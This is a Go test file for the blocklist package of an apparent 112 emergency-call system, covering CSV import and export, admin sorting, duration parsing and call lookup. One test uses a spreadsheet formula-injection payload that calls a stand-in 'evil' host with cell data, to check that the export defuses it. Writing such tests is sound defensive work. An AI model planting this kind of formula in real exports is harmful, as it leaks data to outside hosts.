package blocklist

import (
	"bytes"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/siaga112/siaga112/configs"
	"github.com/siaga112/siaga112/events"
)

func TestParseImport(t *testing.T) {
	p := testPolicy(t)
	now := time.Date(2026, 12, 1, 10, 0, 0, 0, time.UTC)
	good := `number,until,reason
0812-3456-7890,7d,threats to operators
+62 813 1111 2222,2027-01-01T00:00:00Z,
# a comment line is skipped

6281344445555,36h
`
	rows, err := ParseImport(strings.NewReader(good), p, now, time.UTC)
	if err != nil {
		t.Fatal(err)
	}
	want := []ImportRow{
		{Line: 2, Number: "+6281234567890", Until: now.Add(7 * 24 * time.Hour), Reason: "threats to operators"},
		{Line: 3, Number: "+6281311112222", Until: time.Date(2027, 1, 1, 0, 0, 0, 0, time.UTC)},
		{Line: 6, Number: "+6281344445555", Until: now.Add(36 * time.Hour)},
	}
	if len(rows) != len(want) {
		t.Fatalf("rows %+v", rows)
	}
	for i := range want {
		if rows[i].Line != want[i].Line || rows[i].Number != want[i].Number || !rows[i].Until.Equal(want[i].Until) || rows[i].Reason != want[i].Reason {
			t.Fatalf("row %d = %+v, want %+v", i, rows[i], want[i])
		}
	}

	bad := `0812-3456-7890,7d,ok
abc,7d,not a number
0812-3456-7890,1d,again
withheld,1d
0811000111,1d,allowlisted
+6281299998888,2020-01-01T00:00:00Z,past
+6281299997777,soon
+6281299996666
`
	_, err = ParseImport(strings.NewReader(bad), p, now, time.UTC)
	var ie *ImportError
	if !errors.As(err, &ie) || !errors.Is(err, ErrBadImport) {
		t.Fatalf("err %v, want an ImportError", err)
	}
	wantLines := []struct {
		line int
		text string
	}{
		{2, `invalid phone number "abc"`}, {3, "already on line 1"}, {4, "anonymous"}, {5, "allowlist"},
		{6, "in the past"}, {7, `until "soon"`}, {8, "want 2 or 3 fields"},
	}
	if len(ie.Rows) != len(wantLines) {
		t.Fatalf("bad rows %v", ie.Rows)
	}
	for i, w := range wantLines {
		if ie.Rows[i].Line != w.line || !strings.Contains(ie.Rows[i].Error(), w.text) {
			t.Fatalf("bad row %d = %q, want line %d with %q", i, ie.Rows[i].Error(), w.line, w.text)
		}
	}
	if !strings.Contains(err.Error(), "7 bad row(s), nothing imported") {
		t.Fatalf("message %q", err)
	}
}

// Export then import into a fresh store gives the same blocked list, and a
// file with one bad row imports nothing.
func TestCSVRoundTrip(t *testing.T) {
	p := testPolicy(t)
	ctx := ctxT(t)
	_, jsA := connect(t, startNATS(t))
	a := NewAdmin(newTestStore(t, jsA, p), nil, testLog(t))
	if _, err := a.Block(ctx, "0812-3456-7890", 7*24*time.Hour, "threats, and \"jokes\"", "budi"); err != nil {
		t.Fatal(err)
	}
	if _, err := a.Block(ctx, "+1 202 555 0143", 2*time.Hour, "", "budi"); err != nil {
		t.Fatal(err)
	}
	// A reason typed as a formula is exported as text, and comes back as
	// typed.
	const formula = `=HYPERLINK("http://evil/?"&A1,"x")`
	if _, err := a.Block(ctx, "+6281300000002", time.Hour, formula, "budi"); err != nil {
		t.Fatal(err)
	}
	// A number with strikes only is not a block and is not exported.
	if _, _, err := a.Store().Update(ctx, "+6281300000001", func(r Record) (Record, Decision, error) {
		r, d := p.ApplyOutcome(r, Event{ID: "e1", CallID: "c1", At: time.Now()}, events.OutcomeNoInput, 20*time.Second, events.HangupBySystem)
		return r, d, nil
	}); err != nil {
		t.Fatal(err)
	}
	listA, err := a.Store().List(ctx)
	if err != nil {
		t.Fatal(err)
	}
	now := time.Now()
	var exported bytes.Buffer
	if err := WriteCSV(&exported, listA, p, now); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(exported.String()), "\n")
	if len(lines) != 4 || lines[0] != "number,until,reason" || !strings.HasPrefix(lines[1], "+6281234567890,") {
		t.Fatalf("export:\n%s", exported.String())
	}
	if !strings.HasPrefix(lines[3], "+6281300000002,") || !strings.Contains(lines[3], `,"'=HYPERLINK(`) {
		t.Fatalf("the formula reason is not exported as text: %q", lines[3])
	}

	_, jsB := connect(t, startNATS(t))
	b := NewAdmin(newTestStore(t, jsB, p), nil, testLog(t))
	rows, err := ParseImport(bytes.NewReader(exported.Bytes()), p, now, time.UTC)
	if err != nil {
		t.Fatal(err)
	}
	if n, err := b.Import(ctx, rows, "import"); err != nil || n != 3 {
		t.Fatalf("import %d %v", n, err)
	}
	listB, err := b.Store().List(ctx)
	if err != nil {
		t.Fatal(err)
	}
	var again bytes.Buffer
	if err := WriteCSV(&again, listB, p, now); err != nil {
		t.Fatal(err)
	}
	if again.String() != exported.String() {
		t.Fatalf("export after import differs:\n%s\nwant:\n%s", again.String(), exported.String())
	}
	if r, err := b.Store().Get(ctx, "+6281300000002"); err != nil || r.Reason != formula {
		t.Fatalf("imported reason %q (%v), want %q", r.Reason, err, formula)
	}

	t.Run("one bad row imports nothing", func(t *testing.T) {
		_, jsC := connect(t, startNATS(t))
		c := NewAdmin(newTestStore(t, jsC, p), nil, testLog(t))
		file := exported.String() + "0812-abc,1d,typo\n"
		_, err := ParseImport(strings.NewReader(file), p, now, time.UTC)
		var ie *ImportError
		if !errors.As(err, &ie) || len(ie.Rows) != 1 || ie.Rows[0].Line != 5 || !strings.Contains(err.Error(), `line 5: invalid phone number "0812-abc"`) {
			t.Fatalf("err %v", err)
		}
		if list, err := c.Store().List(ctx); err != nil || len(list) != 0 {
			t.Fatalf("store after a refused import: %+v %v", list, err)
		}
	})
}

func TestSortForAdmins(t *testing.T) {
	p := testPolicy(t)
	now := time.Now()
	strike := func(n int) []Strike {
		out := make([]Strike, n)
		for i := range out {
			out[i] = Strike{At: now.Add(-time.Minute), Points: 1, Reason: "no_input"}
		}
		return out
	}
	records := []Record{
		{Number: "+621", Strikes: strike(1)},
		{Number: "+622", Until: now.Add(time.Hour)},
		{Number: "+623", Strikes: strike(2)},
		{Number: "+624", Until: now.Add(7 * 24 * time.Hour)},
		{Number: "+625", Until: now.Add(-time.Hour), Strikes: strike(2)},
	}
	SortForAdmins(records, p, now)
	var got []string
	for _, r := range records {
		got = append(got, r.Number)
	}
	if strings.Join(got, " ") != "+624 +622 +623 +625 +621" {
		t.Fatalf("order %v", got)
	}
}

func TestHumanDuration(t *testing.T) {
	for _, tc := range []struct {
		d    time.Duration
		want string
	}{
		{7 * 24 * time.Hour, "7 days"},
		{7*24*time.Hour - 3*time.Second, "7 days"},
		{50 * time.Hour, "2 days 2 h"},
		{24 * time.Hour, "24 h"},
		{time.Hour, "1 h"},
		{90 * time.Minute, "1 h 30 min"},
		{12 * time.Minute, "12 min"},
		{150 * time.Second, "2 min 30 s"},
		{40 * time.Second, "40 s"},
		{48 * time.Hour, "2 days"},
		{time.Hour - 300*time.Millisecond, "1 h"},
		{time.Hour - 20*time.Second, "1 h"},
		{59*time.Minute + 20*time.Second, "59 min"},
	} {
		if got := HumanDuration(tc.d); got != tc.want {
			t.Errorf("HumanDuration(%s) = %q, want %q", tc.d, got, tc.want)
		}
	}
}

// FindCall knows a withheld caller's call (not in the call index) from the
// stream, and refuses a call id the stream does not have.
func TestFindCall(t *testing.T) {
	_, js := connect(t, startNATS(t))
	ctx := ctxT(t)
	if _, err := events.EnsureStream(ctx, js, configs.Default().NATS.Stream); err != nil {
		t.Fatal(err)
	}
	a := NewAdmin(newTestStore(t, js, testPolicy(t)), JSPublisher{JS: js}, testLog(t))
	if err := a.FindCall(ctx, "nothing-yet"); !errors.Is(err, ErrUnknownCall) {
		t.Fatalf("empty stream: %v", err)
	}
	for i := range 1200 {
		publish(t, js, events.TypeStarted, "call-"+string(rune('a'+i%26))+time.Duration(i).String(), "081234567890", events.Started{Dialed: "112"})
	}
	e, err := events.New(events.TypeStarted, "withheld-1", "asterisk-1", events.Caller{Number: "anonymous", Presentation: events.PresentationRestricted}, events.Started{Dialed: "112"})
	if err != nil {
		t.Fatal(err)
	}
	if err := (JSPublisher{JS: js}).Publish(ctx, e); err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	if err := a.FindCall(ctx, "withheld-1"); err != nil {
		t.Fatalf("withheld caller's call: %v", err)
	}
	t.Logf("found the last of 1,201 calls by scanning in %s", time.Since(start))
	start = time.Now()
	err = a.FindCall(ctx, "bogus")
	if !errors.Is(err, ErrUnknownCall) || !strings.Contains(err.Error(), `unknown call "bogus"`) || !strings.Contains(err.Error(), "24 h") {
		t.Fatalf("bogus: %v", err)
	}
	t.Logf("refused an unknown call after scanning 1,201 calls in %s", time.Since(start))
	if _, err := a.Verdict(ctx, "bogus", events.VerdictPrank, "siti"); !errors.Is(err, ErrUnknownCall) {
		t.Fatalf("verdict for an unknown call: %v", err)
	}
}

func TestParseUntilReadsTheCentresClock(t *testing.T) {
	wita, err := time.LoadLocation("Asia/Makassar")
	if err != nil {
		t.Fatal(err)
	}
	now := time.Date(2026, 12, 1, 10, 0, 0, 0, time.UTC)
	got, err := ParseUntil("2026-12-07 16:59", now, wita)
	if want := time.Date(2026, 12, 7, 8, 59, 0, 0, time.UTC); err != nil || !got.Equal(want) {
		t.Fatalf("ParseUntil in WITA = %v, %v; want %v", got, err, want)
	}
}

func TestParseLengthInWords(t *testing.T) {
	for in, want := range map[string]time.Duration{"2 jam": 2 * time.Hour, "30 menit": 30 * time.Minute, "1 hari": 24 * time.Hour,
		"2 minggu": 14 * 24 * time.Hour, "7d": 7 * 24 * time.Hour, "90m": 90 * time.Minute, "3 Hours": 3 * time.Hour} {
		if got, err := ParseLength(in); err != nil || got != want {
			t.Errorf("ParseLength(%q) = %v, %v; want %v", in, got, err, want)
		}
	}
	for _, in := range []string{"2 jams", "0 jam", "-1h", "jam", "", "2 jam 30"} {
		if _, err := ParseLength(in); err == nil {
			t.Errorf("ParseLength(%q) accepted", in)
		}
	}
}
